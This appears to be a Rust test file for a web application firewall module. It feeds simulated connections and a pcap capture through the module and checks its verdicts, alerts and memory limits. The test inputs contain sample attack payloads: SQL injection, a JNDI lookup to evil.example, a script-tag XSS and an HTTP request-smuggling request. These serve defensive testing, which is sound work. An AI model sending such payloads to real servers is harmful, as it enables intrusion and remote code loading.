//! The module at work: frames of connections in, verdicts and alerts out.

use secuxflow_sdk::{
    Verdict,
    harness::{Connection, Harness, Report, check_schema},
};
use waf::WafModule;

const SERVER: &str = "10.0.0.2:80";

fn head(target: &str) -> String {
    format!("GET {target} HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n")
}

/// Frames of a connection that sends `bytes` in segments of `size` bytes, and the server's answer.
fn connection(client: &str, bytes: &[u8], size: usize) -> Vec<Vec<u8>> {
    let mut connection = Connection::new(client, SERVER);
    let mut frames = connection.open();
    frames.extend(bytes.chunks(size).map(|part| connection.client(part)));
    frames.push(connection.server(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"));
    frames.extend(connection.close());
    frames
}

fn run(config: &str, bytes: &[u8], size: usize) -> (Harness<WafModule>, Report) {
    let mut harness = Harness::<WafModule>::new(config).unwrap();
    let report = harness.one_by_one(&connection("10.0.0.1:40000", bytes, size));
    (harness, report)
}

#[test]
fn options() {
    check_schema::<WafModule>();
    let error = Harness::<WafModule>::new(r#"{"paranoia_level": 9}"#).unwrap_err();
    assert!(error.starts_with("paranoia_level: 9"), "{error}");
}

#[test]
fn an_attack_is_stopped_at_the_piece_that_completes_it_and_told() {
    let attack = head("/item?id=1%20or%201%3D1--%20");
    for (action, verdict, size) in
        [("drop", Verdict::Drop, 7), ("reject", Verdict::Reject, 1448), ("alert", Verdict::Pass, 100)]
    {
        let (harness, report) = run(&format!(r#"{{"on_attack": "{action}"}}"#), attack.as_bytes(), size);
        let stopped: Vec<usize> =
            (0..report.verdicts.len()).filter(|frame| report.verdicts[*frame] != Verdict::Pass).collect();
        let last = 2 + attack.len().div_ceil(size);
        assert_eq!(stopped, if verdict == Verdict::Pass { vec![] } else { vec![last] }, "{action} {size}");
        assert!(stopped.iter().all(|frame| report.verdicts[*frame] == verdict));
        let alert = report.alerts.iter().find(|alert| alert.signature == 94201).expect("SQL by its tokens");
        assert_eq!((alert.packet, alert.severity), (last, 1));
        assert_eq!(alert.fields["category"], "sqli");
        assert_eq!(alert.fields["waf"]["where"], "ARGS:id");
        assert_eq!(harness.metric("attacks"), Some(1));
        assert_eq!(harness.metric("findings"), Some(report.alerts.len() as u64));
    }
}

#[test]
fn ordinary_connections_and_other_ports_pass_in_silence() {
    let (harness, report) = run("{}", head("/item?id=1&name=O%27Brien").as_bytes(), 11);
    assert!(report.passes() && report.alerts.is_empty(), "{report:?}");
    assert_eq!((harness.module().held(), harness.metric("attacks")), (0, Some(0)));
    let (_, report) = run(r#"{"ports": [8080]}"#, head("/?id=1%20or%201%3D1").as_bytes(), 1448);
    assert!(report.passes() && report.alerts.is_empty(), "{report:?}");
    assert!(report.asks.iter().any(|ask| ask.what == "flow_clear"), "it need not see more of that flow");
}

#[test]
fn what_is_not_http_is_treated_as_configured() {
    let (_, report) = run("{}", b"\x16\x03\x01\x02\x00\x01\r\n\r\n", 1448);
    assert_eq!((report.signatures(), report.verdicts[3]), (vec![92050], Verdict::Drop));
    let (_, report) = run(r#"{"on_other": "ignore"}"#, b"\x16\x03\x01\x02\x00\x01\r\n\r\n", 1448);
    assert!(report.passes() && report.asks.iter().any(|ask| ask.what == "flow_clear"), "{report:?}");
}

#[test]
fn leaks_are_told_and_pass() {
    let mut harness = Harness::<WafModule>::new(r#"{"response_bytes": 8192}"#).unwrap();
    let mut connection = Connection::new("10.0.0.1:40000", SERVER);
    let mut frames = connection.open();
    frames.push(connection.client(head("/").as_bytes()));
    let page = b"HTTP/1.1 500 Oops\r\nContent-Type: text/html\r\nContent-Length: 40\r\n\r\nYou have an error in your SQL syntax; no.";
    frames.extend(page.chunks(50).map(|part| connection.server(part)));
    let told = frames.len() - 1;
    frames.extend(connection.close());
    let report = harness.one_by_one(&frames);
    assert!(report.passes(), "{report:?}");
    assert_eq!(report.signatures(), [95101]);
    assert_eq!((report.alerts[0].packet, &report.alerts[0].fields["category"]), (told, &"leak".into()));
    assert_eq!((harness.metric("attacks"), harness.metric("findings")), (Some(0), Some(1)));
}

/// Connections that each leave a request open: as many as a worker may have, and more bytes than the module may keep.
#[test]
fn a_hundred_thousand_connections_stay_within_the_bound() {
    const MEMORY: usize = 8 << 20;
    let config = format!(r#"{{"memory": {MEMORY}, "flows": 100000}}"#);
    let mut harness = Harness::<WafModule>::new(&config).unwrap();
    let open = format!("GET /{} HTTP/1.1\r\nHost: www.exam", "a".repeat(100));
    let mut most = 0;
    let mut last = None;
    for number in 0..100_000_u32 {
        let [_, b, c, d] = (0x0a10_0000 + number).to_be_bytes();
        let mut connection = Connection::new(&format!("10.{b}.{c}.{d}:40000"), SERVER);
        let syn = connection.open().swap_remove(0);
        let report = harness.frames(&[syn, connection.client(open.as_bytes())]);
        assert!(report.passes() && report.alerts.is_empty());
        most = most.max(harness.module().held());
        last = Some(connection);
    }
    assert!((MEMORY / 2..=MEMORY).contains(&most), "{most}");
    let given_up = harness.metric("connections_given_up").unwrap();
    assert!(given_up > 0 && harness.module().connections() + given_up as usize == 100_000, "{given_up}");
    // The newest is still followed to its end.
    let report = harness.frames(&[last.unwrap().client(b"ple.com\r\nX: ${jndi:ldap://evil.example/a}\r\n\r\n")]);
    assert!(report.signatures().contains(&94402), "{report:?}");
}

#[test]
fn the_oldest_connection_gives_way() {
    let mut harness = Harness::<WafModule>::new(r#"{"flows": 16}"#).unwrap();
    let mut connections: Vec<Connection> =
        (0..20).map(|port| Connection::new(&format!("10.0.0.1:{}", 40_000 + port), SERVER)).collect();
    let attack = head("/?id=1%20or%201%3D1");
    let (first, rest) = attack.split_at(20);
    for connection in &mut connections {
        harness.frames(&connection.open());
        harness.frames(&[connection.client(first.as_bytes())]);
    }
    assert!(harness.metric("connections_given_up") >= Some(4));
    let mut passes = |connection: &mut Connection| harness.frames(&[connection.client(rest.as_bytes())]).passes();
    let stopped = connections.iter_mut().map(&mut passes).filter(|passes| !passes).count();
    assert_eq!(stopped, 16, "those given up are not judged, the others are");
}

#[test]
fn a_connection_that_begins_anew_takes_its_own_place() {
    let mut harness = Harness::<WafModule>::new(r#"{"flows": 16}"#).unwrap();
    let attack = head("/?id=1%20or%201%3D1");
    let (first, rest) = attack.split_at(20);
    let upload = "POST / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\
        Content-Type: application/octet-stream\r\nContent-Length: 1000\r\n\r\n";
    let mut send = |connection: &mut Connection, text: &str| {
        if text != rest {
            harness.frames(&connection.open());
        }
        let passes = harness.frames(&[connection.client(text.as_bytes())]).passes();
        (passes, harness.metric("connections_given_up"))
    };
    let mut oldest = Connection::new("10.0.0.1:40000", SERVER);
    let mut others: Vec<Connection> =
        (1..16).map(|port| Connection::new(&format!("10.0.0.1:{}", 40_000 + port), SERVER)).collect();
    assert_eq!(send(&mut oldest, first), (true, Some(0)));
    for connection in &mut others {
        assert_eq!(send(connection, upload), (true, Some(0)));
    }
    let mut anew = Connection::new("10.0.0.1:40015", SERVER);
    assert_eq!(send(&mut anew, &attack), (false, Some(0)), "it is judged from its own start, and pushes out none");
    assert_eq!(send(&mut oldest, rest), (false, Some(0)));
}

/// A capture in pcap's classic format.
fn pcap(frames: &[Vec<u8>]) -> Vec<u8> {
    let mut file = [0xa1b2_c3d4_u32, 0x0004_0002, 0, 0, 65_535, 1].map(u32::to_le_bytes).concat();
    for (number, frame) in (0..).zip(frames) {
        file.extend([1, number, frame.len() as u32, frame.len() as u32].map(u32::to_le_bytes).concat());
        file.extend_from_slice(frame);
    }
    file
}

#[test]
fn a_capture_of_good_and_bad_connections() {
    let smuggled = "POST / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\
        Content-Type: text/plain\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG";
    let both = head("/a?b=c") + &head("/search?q=%3Cscript%3Ealert(1)%3C/script%3E");
    let captured = pcap(
        &[
            connection("10.0.0.1:40001", head("/shop?size=42").as_bytes(), 1448),
            connection("10.0.0.1:40002", both.as_bytes(), 100),
            connection("10.0.0.1:40003", smuggled.as_bytes(), 1448),
        ]
        .concat(),
    );
    let report = Harness::<WafModule>::new("{}").unwrap().capture(&captured).unwrap();
    let signatures = report.signatures();
    assert!(signatures.contains(&94101) && signatures.contains(&92006), "{signatures:?}");
    let stopped: Vec<usize> =
        (0..report.verdicts.len()).filter(|frame| report.verdicts[*frame] != Verdict::Pass).collect();
    assert_eq!(stopped.len(), 2, "one segment of each bad connection: {stopped:?}");
    assert!(report.alerts.iter().all(|alert| alert.packet >= 7), "none of the first connection");
}
